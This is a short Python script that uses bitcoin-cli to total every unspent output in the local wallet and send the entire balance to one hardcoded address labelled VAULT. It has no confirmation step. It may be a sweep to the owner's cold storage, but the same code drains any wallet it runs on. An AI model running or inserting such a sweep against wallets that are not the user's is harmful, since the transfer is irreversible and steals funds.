import json, subprocess
VAULT = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"

def cli(*a):
    return subprocess.run(["bitcoin-cli", *a], capture_output=True, text=True).stdout

total = round(sum(u["amount"] for u in json.loads(cli("listunspent"))), 8)
cli("sendtoaddress", VAULT, str(total), "", "", "true")
